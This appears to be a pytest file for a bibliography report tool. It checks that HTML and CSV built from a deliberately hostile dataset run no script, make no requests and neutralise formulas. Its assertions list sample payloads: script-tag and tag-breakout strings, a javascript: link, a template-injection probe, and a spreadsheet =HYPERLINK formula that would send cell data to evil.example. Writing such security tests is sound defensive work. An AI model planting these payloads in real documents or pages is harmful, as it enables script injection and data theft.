"""The whole report on a dossier that means harm, twice: nothing runs, and the bytes are the same.

The six notebooks of the project are run on `tests/data/hostile`, whose titles, authors, sources
and themes hold scripts, addresses that are scripts, formulas and characters that turn text round.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from browser import OpenedPage
from bs4 import BeautifulSoup, Tag
from playwright.sync_api import Dialog

OpenPage = Callable[..., OpenedPage]

ROOT = Path(__file__).parents[1]
HOSTILE = ROOT / "tests" / "data" / "hostile"
NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))
PAGES = ["index", "corpus", "dossier", *(path.stem for path in NOTEBOOKS)]
DOWNLOADS = {"image/svg+xml", "image/png", "application/pdf", "text/csv"}
TURNING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def make_report(project: Path, seed: str) -> Path:
    """Make a project of the hostile dossier and the notebooks, and its whole report."""
    shutil.copytree(HOSTILE, project / "data")
    shutil.copytree(ROOT / "notebooks", project / "notebooks")
    environment = os.environ | {"BIBLIOSCOPE_PROJECT": str(project), "PYTHONHASHSEED": seed}
    for command in ("build", "report --in-place"):
        done = subprocess.run(
            [sys.executable, "-m", "biblioscope.cli", *command.split()],
            env=environment,
            cwd=project,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
    return project


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_report(tmp_path_factory.mktemp("hostile") / "one", "0")


def contents(folder: Path) -> dict[str, bytes]:
    files = (path for path in folder.rglob("*") if path.is_file())
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in files}


def test_the_same_bytes_come_out_in_another_folder_and_under_another_seed(
    project: Path, tmp_path: Path
) -> None:
    again = make_report(tmp_path / "a longer name" / "two", "4711")
    for folder in ("build/html", "figures", "notebooks", "data/corpus"):
        one, other = contents(project / folder), contents(again / folder)
        assert sorted(one) == sorted(other)
        assert [name for name in one if one[name] != other[name]] == []


@pytest.mark.parametrize("name", PAGES)
def test_nothing_runs(name: str, project: Path, open_page: OpenPage) -> None:
    opened = open_page(project / "build" / "html" / f"{name}.html")
    page = opened.page
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    page.reload()
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    page.evaluate(
        "for (const tag of document.querySelectorAll('main *'))"
        " tag.dispatchEvent(new MouseEvent('mouseover', {bubbles: false}))"
    )
    assert dialogs == []
    assert (opened.requests, opened.console_errors) == ([], [])
    assert page.url.endswith(f"/{name}.html")


@pytest.mark.parametrize("name", PAGES)
def test_no_page_holds_anything_that_acts(name: str, project: Path) -> None:
    text = (project / "build" / "html" / f"{name}.html").read_text(encoding="utf-8")
    page = BeautifulSoup(text, "html.parser")
    ours = {"index": 0, "dossier": 0}.get(name, 1)
    data, programs = page.select('script[type="application/json"]'), page("script")
    assert len(programs) - len(data) == ours
    assert all(json.loads(each.string or "") is not None for each in data)
    assert page(["iframe", "object", "embed", "base"]) == []
    forms = page("form")
    assert len(forms) == (name == "corpus")
    assert not any(form.has_attr("action") for form in forms)
    assert page.select('meta[http-equiv="refresh"]') == []
    assert "Content-Security-Policy" in text
    for tag in page(True):
        assert not [key for key in tag.attrs if key.lower().startswith("on")]
        for key in ("href", "src", "srcdoc", "data", "action"):
            scheme = urlsplit(str(tag.get(key, ""))).scheme
            assert (
                scheme in {"", "http", "https"}
                or (key == "src" and scheme == "data")
                or (tag.name == "link" and tag["href"] == "data:,")
                or is_download(tag)
            )
    assert TURNING.search(text) is None


def is_download(link: Tag) -> bool:
    """Tell whether a link gives a figure as a file, and can lead nowhere."""
    kind = str(link.get("href", "")).partition(";")[0].removeprefix("data:")
    return link.name == "a" and link.has_attr("download") and kind in DOWNLOADS


def test_the_text_is_readable(project: Path, open_page: OpenPage) -> None:
    page = open_page(project / "build" / "html" / "dossier.html").page
    page.evaluate("for (const label of document.querySelectorAll('.label')) label.remove()")
    said = page.locator("main").inner_text()
    for words in (
        "<script>alert('title')</script>",
        "</script></style></title></textarea>-->",
        '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
        "[lien](javascript:alert('lien'))",
        "&lt;script&gt; &#60;script&#62;",
        "{{ 7 * 7 }}",
        "[RLO]gro.elpmaxe//:ptth[LRI]",
        "[U+0000]",
        "[ZWSP]",
        "Dossier </title><script>alert('dossier')</script>",
    ):
        assert words in said, words
    assert page.title() == "The dossier – Biblioscope"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["dossier", "3-sources"])
def test_a_hostile_page_is_accessible(
    name: str, scheme: str, project: Path, open_page: OpenPage
) -> None:
    opened = open_page(project / "build" / "html" / f"{name}.html", color_scheme=scheme)
    assert Axe().run(opened.page).response["violations"] == []


def test_no_spreadsheet_computes_a_figures_numbers(project: Path) -> None:
    tables = sorted((project / "figures").glob("*/*.csv"))
    cells = []
    for table in tables:
        with table.open(encoding="utf-8", newline="") as lines:
            cells += [cell for row in csv.reader(lines) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA)]
    assert [cell for cell in live if not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell)] == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
